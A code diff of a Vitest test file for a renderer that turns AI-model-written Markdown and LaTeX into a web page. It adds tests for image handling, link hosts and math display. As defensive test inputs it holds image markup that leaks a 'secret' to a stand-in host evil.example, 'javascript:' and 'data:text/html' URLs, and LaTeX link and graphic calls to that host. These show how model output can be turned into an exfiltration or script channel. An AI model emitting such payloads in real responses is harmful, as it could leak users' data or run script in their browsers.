@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { renderMarkdown } from '../../src/ui/markdown.ts';
+import { renderMath } from '../../src/ui/math.ts';
 
 /** What a reader's page holds after a model has written `text`. */
 function show(text: string): HTMLElement {
@@ -28,14 +29,33 @@ describe('what a model writes', () => {
     expect(late).toHaveLength(2);
   });
 
-  it('shows the words for an image, and never loads one', () => {
-    const shown = show('![a chart](https://evil.example/?secret) <img src="https://evil.example/x.png">');
-    expect(shown.textContent?.trim()).toBe('a chart');
-    expect(shown.innerHTML).not.toContain('evil.example');
+  it.each(['![a chart](https://evil.example/?secret)', '<img src="https://evil.example/?secret" alt="a chart">'])(
+    'has in the place of an image from elsewhere its words and its address, and loads nothing: %s',
+    (markup) => {
+      const shown = show(markup);
+      const placeholder = shown.querySelector('glove-remote-image');
+      expect(placeholder?.getAttribute('address')).toBe('https://evil.example/?secret');
+      expect(placeholder?.getAttribute('alt')).toBe('a chart');
+      expect(shown.querySelector('img, [src]')).toBeNull();
+    },
+  );
+
+  it('draws pictures that are in the text itself', () => {
+    const address = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
+    expect(show(`![dot](${address})`).querySelector('img')?.getAttribute('src')).toBe(address);
   });
 
+  it.each(['settings.png', '/settings', 'javascript:alert(1)', 'blob:https://a.example/b', 'data:text/html,x'])(
+    'shows the words alone for an image at %s',
+    (address) => {
+      const shown = show(`![a chart](${address})`);
+      expect(shown.textContent?.trim()).toBe('a chart');
+      expect(shown.querySelector('img, glove-remote-image')).toBeNull();
+    },
+  );
+
   it('shows words for an image that are markup as words', () => {
-    expect(show('![<b>bold</b>](x)').querySelector('b')).toBeNull();
+    expect(show('![<b>bold</b>](x) ![<b>bold</b>](https://a.example/x)').querySelector('b')).toBeNull();
   });
 
   it.each([
@@ -66,6 +86,12 @@ describe('what a model writes', () => {
     expect(link?.rel).toBe('noopener noreferrer');
   });
 
+  it('says where a link leads that says something else', () => {
+    const [docs, bare] = show('[the docs](https://docs.python.org/3/) https://peps.python.org/').querySelectorAll('a');
+    expect(docs?.dataset.host).toBe('docs.python.org');
+    expect(bare?.dataset.host).toBeUndefined();
+  });
+
   it.each([
     'javascript:alert(1)',
     'data:text/html,hello',
@@ -79,5 +105,47 @@ describe('what a model writes', () => {
 
   it('can be written to by mail', () => {
     expect(show('<mail@example.org>').querySelector('a')?.title).toBe('mailto:mail@example.org');
+  });
+});
+
+describe('LaTeX in what a model writes', () => {
+  const draw = (text: string): HTMLElement => {
+    const element = document.createElement('div');
+    element.innerHTML = renderMarkdown(text, renderMath).join('');
+    return element;
+  };
+
+  it.each(['Euler: $e^{i\\pi} + 1 = 0$.', 'Euler: \\(e^{i\\pi} + 1 = 0\\).'])('is drawn in the line: %s', (text) => {
+    const math = draw(text).querySelector('p > span > math, p > math');
+    expect(math?.querySelector('msup')?.textContent).toContain('π');
+    expect(math?.getAttribute('display')).not.toBe('block');
+  });
+
+  it.each(['$$\\frac{1}{2}$$', '$$\n\\frac{1}{2}\n$$', '\\[\\frac{1}{2}\\]', 'So\n\\[\n\\frac{1}{2}\n\\]\nit is.'])(
+    'is drawn in a place of its own: %j',
+    (text) => {
+      expect(draw(text).querySelector('math[display="block"] mfrac')?.textContent).toBe('12');
+    },
+  );
+
+  it.each(['It costs $5 and not $10.', 'US$5, or $6/$7', '`$x$`', 'It is $ 5 $ here', '\\$x\\$'])(
+    'is not where there are only prices or code: %s',
+    (text) => {
+      expect(draw(text).querySelector('math')).toBeNull();
+    },
+  );
+
+  it('shows its source until it can be drawn, and where it cannot', () => {
+    expect(show('Here $x^2$.').querySelector('code')?.textContent).toBe('$x^2$');
+    expect(draw('Here $\\frac{$.').querySelector('math')).toBeNull();
+    expect(draw('Here $\\frac{1$.').textContent).toContain('$\\frac{1$');
+  });
+
+  it.each([
+    '$\\href{https://evil.example}{x}$',
+    '$\\includegraphics{https://evil.example/a.png}$',
+    '$\\url{https://evil.example}$',
+  ])('leads nowhere and loads nothing: %s', (text) => {
+    expect(draw(text).querySelector('a, img, [href], [src], [style]')).toBeNull();
   });
 });
